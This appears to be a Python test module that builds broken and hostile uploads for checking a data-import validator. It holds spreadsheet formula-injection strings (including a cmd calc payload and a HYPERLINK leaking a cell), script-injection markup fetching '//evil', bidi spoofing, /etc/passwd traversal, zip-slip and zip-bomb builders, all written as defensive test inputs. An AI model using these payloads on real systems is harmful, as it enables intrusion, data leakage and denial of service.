"""The bad-input corpus: broken and hostile data sets, each with the problems it must produce.

Two tables of tiny inputs (STYLE.md #8):

- `CASES`: data directories. Each starts from the valid directory of `tests/conftest.py` (four
  indicators, five figures, one article) and breaks one thing. `errors` is exactly the errors
  validation reports, as (file, line, column, code); `message` is a fragment the report prints;
  `valid` is how many of the five figures stay valid (every row not broken is kept). Cases with no
  errors are hostile but valid text (formulas, HTML): stored verbatim, neutralised on export.
- `UPLOAD_CASES`: uploads that `read_uploads` refuses before anything is parsed (zip slip,
  absolute names, zip bombs, files over the caps, corrupt zips), with the one problem each gives.

`payload(case)` gives any case as what a browser uploads, a list of (file name, bytes): the app
test of the upload control reuses it. Files whose bytes matter live in `tests/corpus_files/`.
"""

from __future__ import annotations

import copy
import functools
import io
import random
import string
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.conftest import ARTICLE, MINI, csv_text

from vnintegration.core.uploads import DEFAULT_LIMITS, MB, Limits

FILES = Path(__file__).resolve().parent / "corpus_files"
Error = tuple[str, "int | None", str, str]  # file, line, column, code
OBS = "observations.csv"


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], dict[str, bytes]]  # relative path -> bytes of the whole data directory
    errors: tuple[Error, ...]
    message: str
    valid: int


@dataclass(frozen=True)
class UploadCase:
    name: str
    build: Callable[[], list[tuple[str, bytes]]]  # what the browser sends: (file name, bytes)
    error: Error
    message: str
    limits: Limits = field(default=DEFAULT_LIMITS)


# --- building data directories ------------------------------------------------------------


def mini_files(tables: dict | None = None) -> dict[str, bytes]:
    """The valid directory of conftest.py as relative path -> bytes."""
    files = {name: csv_text(rows).encode("utf-8") for name, rows in (tables or MINI).items()}
    files["sources/art.txt"] = ARTICLE.encode("utf-8")
    return files


def cell(table: str, row: int, column: str, value: str) -> Callable[[], dict[str, bytes]]:
    """The directory with one cell changed (row 0 = the first data row, on line 2)."""
    def build():
        tables = copy.deepcopy(MINI)
        rows = tables[table]
        rows[row + 1][rows[0].index(column)] = value
        return mini_files(tables)
    return build


def rows(table: str, change: Callable[[list[list[str]]], None]) -> Callable[[], dict[str, bytes]]:
    """The directory with one table's rows (header first) changed in place by `change`."""
    def build():
        tables = copy.deepcopy(MINI)
        change(tables[table])
        return mini_files(tables)
    return build


def raw(name: str, data: bytes) -> Callable[[], dict[str, bytes]]:
    """The directory with one file's bytes replaced (b"" empties it; None would drop it)."""
    return lambda: mini_files() | {name: data}


def without(name: str) -> Callable[[], dict[str, bytes]]:
    return lambda: {k: v for k, v in mini_files().items() if k != name}


def committed(case: str) -> Callable[[], dict[str, bytes]]:
    """The directory with the byte-exact files of tests/corpus_files/<case>/ laid over it."""
    def build():
        files = mini_files()
        for path in sorted((FILES / case).rglob("*")):
            if path.is_file():
                files[path.relative_to(FILES / case).as_posix()] = path.read_bytes()
        return files
    return build


def _drop_column(column: str):
    def change(table):
        i = table[0].index(column)
        for row in table:
            del row[i]
    return change


def _add_column(name: str, value: str):
    def change(table):
        table[0].append(name)
        for row in table[1:]:
            row.append(value)
    return change


def _second_source(path: str):
    """A second source filed at `path`, quoted by one extra figure on line 7."""
    def build():
        tables = copy.deepcopy(MINI)
        tables["sources.csv"].append(["art2", "article", "Bài hai", "", "", "", "", path, "vi", "", ""])
        tables[OBS].append(["gdp_growth", "2023", "12", "", "5.05", "exact", "actual", "art2", "GDP tăng 5,05%", ""])
        return mini_files(tables)
    return build


def _header_only():
    return mini_files() | {OBS: csv_text(MINI[OBS][:1]).encode()}


def _ragged(i: int, extra: bool):
    def change(table):
        table[i] = table[i] + ["thừa"] if extra else table[i][:5]
    return change


def _tenfold(table):
    """GDP growth of 70.9 %, explained as derived so that only the range check fails."""
    table[1][4], table[1][9] = "70.9", "derived: 7,09 x 10"


def _duplicate_row(table):
    table.append(list(table[1]))


def _duplicated_column(table):
    table[0][5] = "value"  # qualifier renamed: value twice, qualifier missing


def _unterminated_files():
    files = mini_files()
    files[OBS] += b'gdp_growth,2023,12,,5.05,exact,actual,art,"GDP t\xc4\x83ng 5,05%,\n'
    return files


HOSTILE_TEXT = {
    # (table, row, column): text that must be stored verbatim and exported neutralised
    (OBS, 0, "note"): "=1+1",
    (OBS, 1, "note"): "-2+3",
    (OBS, 2, "note"): "@SUM(1+1)*cmd|' /C calc'!A0",
    (OBS, 3, "note"): "+SUM(A1:A2)",
    ("events.csv", 0, "title_en"): '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    ("sources.csv", 0, "title"): "\t=1+1",
}
HOSTILE_MARKUP = {
    (OBS, 0, "note"): "<script>alert(1)</script>",
    (OBS, 1, "note"): "<img src=x onerror=alert(1)>",
    (OBS, 2, "note"): "[link](javascript:alert(1))",
    (OBS, 3, "note"): "**bold** $x^2$ :red[red] <b>b</b>",
    ("sources.csv", 0, "title"): "<iframe src=javascript:alert(1)></iframe>",
    ("events.csv", 0, "title_vi"): "</div><script>fetch('//evil')</script>",
}

# Bidi controls and other invisible format characters: valid text, stored verbatim (the data is the record), shown
# without them (export.strip_format_chars), so that "\u202egnp.exe" reads "gnp.exe", not "exe.png".
BIDI = {
    "override": "\u202egnp.exe",  # RIGHT-TO-LEFT OVERRIDE
    "embedding": "\u202bGDP\u202c tăng",  # RIGHT-TO-LEFT EMBEDDING ... POP DIRECTIONAL FORMATTING
    "isolate": "\u2067Việt Nam\u2069 \u2066x\u2069 \u2068y\u2069",  # RLI, LRI, FSI ... PDI
    "marks": "\u200f2024\u200e \u061c",  # RLM, LRM, ARABIC LETTER MARK
    "zero-width": "V\u200biệt\u200c \u200dNam\u2060\ufeff\u00ad",  # ZWSP, ZWNJ, ZWJ, WJ, BOM, soft hyphen
    "tags": "flag\U000e0067\U000e0062\U000e007f",  # tag characters (invisible; "ASCII smuggling")
}
HOSTILE_BIDI = {
    (OBS, 0, "note"): BIDI["override"],
    (OBS, 1, "note"): BIDI["embedding"],
    (OBS, 2, "note"): BIDI["isolate"],
    ("sources.csv", 0, "title"): BIDI["override"] + " " + BIDI["marks"],
    ("sources.csv", 0, "publisher"): BIDI["zero-width"],
    ("events.csv", 0, "title_en"): BIDI["tags"] + " " + BIDI["override"],
    ("events.csv", 0, "title_vi"): BIDI["isolate"],
}


def hostile(cells: dict) -> Callable[[], dict[str, bytes]]:
    def build():
        tables = copy.deepcopy(MINI)
        for (table, row, column), text in cells.items():
            tables[table][row + 1][tables[table][0].index(column)] = text
        return mini_files(tables)
    return build


def _o(line: int, column: str, code: str) -> Error:
    return (OBS, line, column, code)


# A note longer than Python csv's default field limit (131,072 characters); random letters, so that it does not
# compress enough to look like a zip bomb.
LONG_NOTE = "derived: " + "".join(random.Random(1).choices(string.ascii_letters + " ", k=131_072))


CASES: tuple[Case, ...] = (
    # Encodings and bytes: real files where the bytes matter.
    Case("utf16-events", committed("utf16-events"), (("events.csv", None, "", "encoding"),), "UTF-16", 5),
    Case("cp1258-events", committed("cp1258-events"), (("events.csv", 2, "", "encoding"),), "not UTF-8", 5),
    Case("latin1-events", committed("latin1-events"), (("events.csv", 2, "", "encoding"),), "not UTF-8", 5),
    Case("bom-crlf-observations", committed("bom-crlf-observations"), (_o(2, "value", "bad-number"),),
         "use . as the decimal mark", 4),
    Case("binary-observations", raw(OBS, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
         ((OBS, None, "", "encoding"),), "re-save it as UTF-8", 0),
    # Shape of the file.
    Case("empty-observations", raw(OBS, b""), ((OBS, None, "", "empty-file"),), "the file is empty", 0),
    Case("header-only-observations", _header_only, ((OBS, 1, "", "header-only"),), "header but no rows", 0),
    Case("missing-events-file", without("events.csv"), (("events.csv", None, "", "missing-file"),),
         "the file is missing", 5),
    Case("missing-column", rows(OBS, _drop_column("note")), (_o(1, "note", "missing-column"),),
         "missing from the header", 5),
    Case("missing-required-column", rows(OBS, _drop_column("status")),
         (_o(1, "status", "missing-column"),) + tuple(_o(n, "status", "blank-cell") for n in range(2, 7)),
         "missing from the header", 0),
    Case("extra-column", rows(OBS, _add_column("comment", "x")), (_o(1, "comment", "unknown-column"),),
         "unknown column", 5),
    Case("duplicated-column", rows(OBS, _duplicated_column),
         (_o(1, "value", "duplicate-column"), _o(1, "qualifier", "missing-column")),
         "appears twice in the header", 0),
    Case("ragged-row-long", rows(OBS, _ragged(2, True)), (_o(3, "", "ragged-row"),), "11 fields, the header 10", 4),
    Case("ragged-row-short", rows(OBS, _ragged(4, False)), (_o(5, "", "ragged-row"),), "5 fields, the header 10", 4),
    Case("unterminated-quote", _unterminated_files, (_o(7, "", "ragged-row"),), "is a quote left open?", 5),
    # Cells.
    Case("decimal-comma", cell(OBS, 0, "value", "7,09"), (_o(2, "value", "bad-number"),),
         "use . as the decimal mark", 4),
    Case("thousands-grouping", cell(OBS, 1, "value", "11.511,9"), (_o(3, "value", "bad-number"),),
         "without thousands grouping", 4),
    Case("nan-value", cell(OBS, 0, "value", "NaN"), (_o(2, "value", "not-finite"),), "not a finite number", 4),
    Case("inf-value", cell(OBS, 0, "value", "inf"), (_o(2, "value", "not-finite"),), "not a finite number", 4),
    Case("overflow-value", cell(OBS, 0, "value", "1e999"), (_o(2, "value", "not-finite"),), "not a finite number", 4),
    Case("cell-over-the-cap", cell(OBS, 1, "note", LONG_NOTE), (_o(3, "note", "cell-too-long"),),
         "over the cap of 131,072", 4),
    Case("blank-value", cell(OBS, 0, "value", ""), (_o(2, "value", "blank-cell"),), "the cell is blank", 4),
    Case("year-0", cell(OBS, 0, "year", "0"), (_o(2, "year", "bad-year"),), "not a year between 1900 and 2100", 4),
    Case("year-3000", cell(OBS, 0, "year", "3000"), (_o(2, "year", "bad-year"),), "not a year", 4),
    Case("months-0", cell(OBS, 0, "months", "0"), (_o(2, "months", "bad-months"),), "from 1 to 12", 4),
    Case("months-13", cell(OBS, 0, "months", "13"), (_o(2, "months", "bad-months"),), "from 1 to 12", 4),
    Case("date-impossible", cell(OBS, 4, "as_of", "2025-13-45"), (_o(6, "as_of", "bad-date"),),
         "not a date YYYY-MM-DD", 4),
    Case("date-day-first", cell(OBS, 4, "as_of", "26/08/2025"), (_o(6, "as_of", "bad-date"),),
         "not a date YYYY-MM-DD", 4),
    Case("event-date-malformed", cell("events.csv", 0, "date", "24.1.2025"), (("events.csv", 2, "date", "bad-date"),),
         "not a date", 5),
    Case("no-period", cell(OBS, 0, "months", ""), (_o(2, "months", "no-period"),), "neither months nor as_of", 4),
    Case("as-of-other-year", cell(OBS, 4, "as_of", "2024-08-26"), (_o(6, "as_of", "year-mismatch"),),
         "not in the row's year", 4),
    Case("out-of-range", rows(OBS, _tenfold),
         (_o(2, "value", "out-of-range"),), "outside the indicator's plausible range", 4),
    Case("unknown-indicator", cell(OBS, 0, "indicator", "gdp_grwth"), (_o(2, "indicator", "unknown-indicator"),),
         "unknown indicator", 4),
    Case("unknown-source", cell(OBS, 0, "source_id", "nguon-khac"), (_o(2, "source_id", "unknown-source"),),
         "unknown source", 4),
    Case("duplicate-key", rows(OBS, _duplicate_row), (_o(7, "indicator", "duplicate-key"),),
         "first on line 2", 5),
    Case("quote-not-in-source", cell(OBS, 0, "quote", "GDP tăng trưởng 7,09%"),
         (_o(2, "quote", "quote-not-in-source"),), "the quote is not in the source text", 4),
    Case("value-not-in-quote", cell(OBS, 0, "value", "7.9"), (_o(2, "value", "value-not-in-quote"),),
         "not a number the quote writes", 4),
    Case("missing-source-file", _second_source("sources/khong-co.txt"),
         (("sources.csv", 3, "file", "missing-file"), _o(7, "source_id", "unknown-source")),
         "the source file is missing", 5),
    Case("source-path-climbs-out", _second_source("../../etc/passwd"),
         (("sources.csv", 3, "file", "unsafe-path"), _o(7, "source_id", "unknown-source")),
         "leaves the data directory", 5),
    Case("source-path-absolute", _second_source("/etc/passwd"),
         (("sources.csv", 3, "file", "unsafe-path"), _o(7, "source_id", "unknown-source")),
         "leaves the data directory", 5),
    # Formula injection and markup: in a quote they are not the source's words; elsewhere valid text.
    Case("formula-in-quote", cell(OBS, 0, "quote", "=1+1"),
         (_o(2, "quote", "quote-not-in-source"), _o(2, "value", "value-not-in-quote")), "(=1+1)", 4),
    Case("formula-as-value", cell(OBS, 0, "value", "=7.09"), (_o(2, "value", "bad-number"),), "not a number", 4),
    Case("script-in-quote", cell(OBS, 0, "quote", "<script>alert(1)</script> GDP tăng 7,09%"),
         (_o(2, "quote", "quote-not-in-source"),), "<script>alert(1)</script>", 4),
    Case("formulas-in-text", hostile(HOSTILE_TEXT), (), "", 5),
    Case("markup-in-text", hostile(HOSTILE_MARKUP), (), "", 5),
    Case("bidi-in-text", hostile(HOSTILE_BIDI), (), "", 5),
)


# --- uploads refused before parsing --------------------------------------------------------


def zip_of(files: dict[str, bytes], prefix: str = "") -> bytes:
    """A zip (deflated) of relative path -> bytes, each under `prefix`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(prefix + name, data)
    return out.getvalue()


@dataclass
class RawMember:
    """A zip member written byte by byte, so that it can lie: declared size, CRC, flags, mode."""

    name: str
    data: bytes  # as stored (already deflated when method is 8)
    size: int  # declared uncompressed size
    crc: int
    method: int = 8
    flags: int = 0
    mode: int = 0o100644  # unix mode in the external attributes (0o120777: a symbolic link)


def raw_zip(members: list[RawMember]) -> bytes:
    """A zip written by hand (local headers, central directory, end record): no zipfile checks."""
    out = bytearray()
    central = bytearray()
    for m in members:
        name = m.name.encode("utf-8")
        flags = m.flags | 0x800  # names in UTF-8
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, m.method, 0, 0x21, m.crc, len(m.data), m.size,
                           len(name), 0) + name + m.data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 20, 20, flags, m.method, 0, 0x21, m.crc,
                               len(m.data), m.size, len(name), 0, 0, 0, 0, m.mode << 16, offset) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + end)


def deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


@functools.lru_cache(maxsize=4)
def zeros_member(megabytes: int) -> tuple[bytes, int]:
    """`megabytes` MB of zeros as a raw deflate stream, and its CRC, in a few milliseconds of zlib.

    One megabyte is compressed once and its byte-aligned output (after a full flush the next block
    never refers back) repeated: the stream of a zip bomb without compressing 200 MB.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = block * megabytes + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc, zero = 0, bytes(MB)
    for _ in range(megabytes):
        crc = zlib.crc32(zero, crc)
    return stream, crc


def bomb_zip(megabytes: int, declared: int | None = None) -> bytes:
    """observations.csv as `megabytes` MB of zeros (about 1000:1), declaring `declared` bytes."""
    stream, crc = zeros_member(megabytes)
    size = megabytes * MB if declared is None else declared
    return raw_zip([RawMember("observations.csv", stream, size, crc)])


def _member(name: str, data: bytes, **kw) -> RawMember:
    return RawMember(name, deflated(data), len(data), zlib.crc32(data), **kw)


def _mini_zip_with(*extra: RawMember) -> bytes:
    return raw_zip([_member(name, data) for name, data in mini_files().items()] + list(extra))


def _junk_members() -> list[tuple[str, bytes]]:
    """Archiver junk beside the tables counts towards the member cap: the cap is on what arrives."""
    junk = {f"__MACOSX/._{n}": b"" for n in range(DEFAULT_LIMITS.max_files)}
    return [("mac.zip", zip_of(mini_files() | junk))]


def _over_rows() -> list[tuple[str, bytes]]:
    header = csv_text(MINI[OBS][:1]).encode()
    return [(OBS, header + b"x\n" * (DEFAULT_LIMITS.max_rows + 1))]


def _many_files() -> list[tuple[str, bytes]]:
    files = mini_files() | {f"sources/extra-{i}.txt": b"x" for i in range(DEFAULT_LIMITS.max_files)}
    return [("many.zip", zip_of(files))]


def _truncated() -> list[tuple[str, bytes]]:
    whole = zip_of(mini_files())
    return [("data.zip", whole[: len(whole) // 2])]


def _encrypted() -> list[tuple[str, bytes]]:
    return [("secret.zip", _mini_zip_with(_member("sources/secret.txt", b"x", flags=0x1)))]


def _size_lies() -> list[tuple[str, bytes]]:
    stream, crc = zeros_member(8)
    return [("lies.zip", raw_zip([RawMember(OBS, stream, 1000, crc)] +
                                  [_member(n, d) for n, d in mini_files().items() if n != OBS]))]


def _duplicate_names() -> list[tuple[str, bytes]]:
    return [("twice.zip", _mini_zip_with(_member(OBS, b"indicator\n")))]


def _deep() -> list[tuple[str, bytes]]:
    return [("deep.zip", zip_of(mini_files(), prefix="a/b/"))]


UPLOAD_CASES: tuple[UploadCase, ...] = (
    UploadCase("zip-slip", lambda: [("slip.zip", _mini_zip_with(_member("../../x", b"pwned")))],
               ("../../x", None, "", "unsafe-path"), "climbs out of the folder"),
    UploadCase("zip-slip-inside-sources", lambda: [("slip.zip", _mini_zip_with(_member("sources/../../x.txt", b"x")))],
               ("sources/../../x.txt", None, "", "unsafe-path"), "climbs out of the folder"),
    UploadCase("zip-absolute-path", lambda: [("abs.zip", _mini_zip_with(_member("/etc/passwd", b"root:x:0:0")))],
               ("/etc/passwd", None, "", "unsafe-path"), "absolute path"),
    UploadCase("zip-backslash-path", lambda: [("win.zip", _mini_zip_with(_member("..\\..\\x.csv", b"x")))],
               ("..\\..\\x.csv", None, "", "unsafe-path"), "backslash"),
    UploadCase("zip-drive-letter", lambda: [("win.zip", _mini_zip_with(_member("C:/Windows/x.csv", b"x")))],
               ("C:/Windows/x.csv", None, "", "unsafe-path"), "drive letter"),
    UploadCase("zip-symlink", lambda: [("link.zip", _mini_zip_with(_member("sources/link.txt", b"/etc/passwd",
                                                                           mode=0o120777)))],
               ("sources/link.txt", None, "", "unsafe-path"), "symbolic link"),
    UploadCase("zip-bomb-200mb", lambda: [("bomb.zip", bomb_zip(200))],
               (OBS, None, "", "too-large"), "over the cap of 50.0 MB per file"),
    UploadCase("zip-bomb-ratio", lambda: [("bomb.zip", bomb_zip(20))],
               (OBS, None, "", "too-large"), "zip bomb"),
    UploadCase("zip-declared-size-lies", _size_lies, (OBS, None, "", "bad-zip"), "cannot be read"),
    UploadCase("zip-total-over-cap", lambda: [("big.zip", zip_of(mini_files()))],
               ("upload", None, "", "too-large"), "would expand to",
               Limits(max_total_bytes=1000)),
    UploadCase("zip-junk-members-over-cap", _junk_members, ("mac.zip", None, "", "too-large"),
               "members, over the cap of 500"),
    UploadCase("zip-bomb-in-a-member-not-read",
               lambda: [("data.zip", zip_of(mini_files() | {"notes/zeros.bin": bytes(500_000)}))],
               ("notes/zeros.bin", None, "", "too-large"), "zip bomb"),
    UploadCase("zip-too-many-files", _many_files, ("many.zip", None, "", "too-large"), "over the cap of 500"),
    UploadCase("zip-encrypted", _encrypted, ("sources/secret.txt", None, "", "bad-zip"), "encrypted"),
    UploadCase("zip-duplicate-names", _duplicate_names, (OBS, None, "", "bad-zip"), "two files of this name"),
    UploadCase("zip-corrupt", lambda: [("data.zip", b"PK\x03\x04" + bytes(range(256)) * 4)],
               ("data.zip", None, "", "bad-zip"), "not a readable .zip"),
    UploadCase("zip-truncated", _truncated, ("data.zip", None, "", "bad-zip"), "not a readable .zip"),
    UploadCase("zip-tables-too-deep", _deep, ("deep.zip", None, "", "missing-file"), "one folder down"),
    UploadCase("upload-far-over-cap", lambda: [(OBS, b"x" * (3 * DEFAULT_LIMITS.max_upload_bytes))],
               (OBS, None, "", "too-large"), "over the cap of 10.0 MB"),
    UploadCase("rows-over-cap", _over_rows, (OBS, None, "", "too-large"), "over the cap of 200,000"),
    UploadCase("spreadsheet", lambda: [("observations.xlsx", b"PK\x03\x04")],
               ("observations.xlsx", None, "", "unsupported-file"), "CSV UTF-8"),
    UploadCase("zip-and-csv", lambda: [("data.zip", zip_of(mini_files())), (OBS, b"")],
               ("data.zip", None, "", "unsupported-file"), "not both"),
)


def payload(case: Case | UploadCase) -> list[tuple[str, bytes]]:
    """The case as a browser uploads it: a data directory as one .zip, an upload case as itself."""
    if isinstance(case, Case):
        return [(f"{case.name}.zip", zip_of(case.build()))]
    return case.build()


def payloads() -> list[tuple[str, list[tuple[str, bytes]]]]:
    """Every case of the corpus as (case name, upload): for the app's test of its upload control."""
    return [(case.name, payload(case)) for case in (*CASES, *UPLOAD_CASES)]
